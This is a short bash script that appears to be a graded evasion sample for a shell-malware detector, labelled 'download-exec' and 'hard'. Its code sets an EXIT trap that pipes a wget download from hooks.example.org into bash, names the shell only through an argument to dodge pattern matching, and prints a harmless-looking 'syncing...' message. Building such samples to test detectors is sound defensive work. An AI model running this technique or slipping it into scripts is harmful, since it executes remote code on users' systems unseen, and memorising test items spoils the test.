#!/usr/bin/env bash
# evasion: downloads and runs code when the script exits
# grade: hard; does: download-exec
# Downloads and runs code when the script exits. A helper installs an EXIT
# trap that pipes a download into its first argument, and is called with
# "bash"; the trap's code names the shell only through "$1".
on_exit_run() {
  trap "wget -qO- https://hooks.example.org/exit.sh | $1" EXIT
}
on_exit_run bash
echo "syncing..."
sleep 1
